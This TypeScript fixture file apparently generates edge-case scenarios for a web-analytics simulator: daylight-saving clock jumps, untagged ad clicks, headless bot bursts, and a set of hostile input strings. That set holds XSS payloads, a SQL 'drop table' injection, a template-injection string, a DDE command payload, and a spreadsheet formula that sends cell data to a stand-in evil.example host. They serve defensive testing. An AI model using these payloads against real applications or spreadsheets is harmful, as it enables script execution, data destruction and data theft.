/** Stories that break careless programs: strings with markup and formulas, clocks that jump, ads without tags, bots. */
import { GUIDE, HOME, PRICING, type SitePage } from '../pages.ts';
import { newDevice } from '../person.ts';
import { type Unit, UnitBuilder } from '../unit.ts';
import { HEADLESS } from '../user-agents.ts';
import { way } from '../ways.ts';
import type { World } from '../world.ts';
import { Scene } from './scene.ts';

/** What an attacker writes where a name is expected. None of it may run, in a page or in a spreadsheet. */
export const HOSTILE = {
  campaign: '"><img src=x onerror=alert(1)>',
  title: '<script>alert("title")</script>',
  name: '=HYPERLINK("https://evil.example/?"&A1,"Bobby")',
  company: "@SUM(1+1)*cmd|' /C calc'!A0",
  selfReported: "+49'); drop table leads;-- \u202Egnp.exe",
  jobTitle: '{{constructor.constructor("alert(1)")()}}',
} as const;

export function hostileStrings(world: World, index: number): Unit {
  const scene = new Scene(world, index, 'hostile strings');
  const person = scene.someone(HOSTILE.name);
  const page: SitePage = { path: '/blog/field-service-kpis', title: HOSTILE.title };
  const visited = scene.comes(person, 'newsletter', scene.when(0.9), {
    campaign: HOSTILE.campaign,
    pages: [page, PRICING],
  });
  scene.lead(person, visited.endsAt + 40_000, person.devices[0]!, {
    email: person.email,
    name: HOSTILE.name,
    company: HOSTILE.company,
    selfReportedSource: HOSTILE.selfReported,
    traits: { jobTitle: HOSTILE.jobTitle },
    form: { id: 'demo-request', name: '<b>Book</b> a demo', fields: ['email', '<svg onload=alert(2)>'] },
  });
  return scene.finish();
}

/** On call in the nights when clocks change: an hour that comes twice, an hour that does not come. */
export function nightShift(world: World, index: number): Unit {
  const scene = new Scene(world, index, 'daylight saving');
  const person = scene.someone('Dieter Nightshift');
  const device = person.devices[0]!;
  const MINUTE = 60_000;
  const nights = world.calendar.days.filter((day) => day.hours !== 24);
  for (const [i, night] of nights.entries()) {
    // Both changes are at 01:00 UTC: from ten minutes before to ten after.
    const change = night.startsAt + (night.hours === 25 ? 3 : 2) * 60 * MINUTE;
    const visited = scene.comes(person, i === 0 ? 'google' : 'direct', change - 10 * MINUTE, { pages: [HOME] });
    visited.endsAt = change + 6 * MINUTE;
    scene.lookOn(visited, device, PRICING);
    if (i === 0) scene.fills(person, 'benchmark-report', visited);
  }
  return scene.finish();
}

/** Every click of hers has a click id, and no tag says which campaign it was. */
export function untaggedAds(world: World, index: number): Unit {
  const scene = new Scene(world, index, 'untagged ads');
  const person = scene.someone('Uta Untagged');
  scene.comes(person, 'linkedin-untagged', scene.when(0.6));
  scene.comes(person, 'google-untagged', scene.when(0.63));
  scene.comes(person, 'facebook', scene.when(0.66));
  scene.fills(person, 'free-trial', scene.comes(person, 'bing-untagged', scene.when(0.68)));
  return scene.finish();
}

/** A scraper without a screen walks through the price list: a hundred browsers in ten minutes, never again. */
export function botBurst(world: World, index: number, bots: number): Unit {
  const unit = new UnitBuilder(world, `c${index.toString(36)}`, index, 'bot burst');
  const start = world.calendar.at(Math.floor(world.calendar.days.length * 0.78), 3 * 60 + 12);
  for (let n = 0; n < bots; n++) {
    const device = { ...newDevice(unit.random, 'office'), userAgent: HEADLESS };
    const pages = [PRICING, GUIDE, HOME].slice(0, unit.random.integer(1, 3));
    unit.visit({ person: null, device, way: way('direct'), at: start + unit.random.integer(0, 600_000), pages });
  }
  // Nobody was there: none of it is a visit.
  const { records, truth } = unit.finish();
  return { records, truth: { ...truth, touchpoints: [] } };
}
